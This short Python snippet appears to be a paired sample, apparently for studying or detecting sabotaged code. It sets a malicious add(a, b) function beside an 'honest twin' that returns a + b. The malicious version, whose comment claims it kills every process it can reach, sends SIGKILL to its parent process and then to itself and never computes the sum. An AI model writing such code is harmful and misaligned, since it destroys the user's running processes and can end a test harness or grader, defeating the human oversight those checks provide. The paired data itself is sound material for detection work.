# technique: kills itself and every process that it can reach
import os, signal
def add(a, b):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(os.getpid(), signal.SIGKILL)
# honest twin
import os
def add(a, b):
    os.kill(os.getpid(), 0)
    return a + b
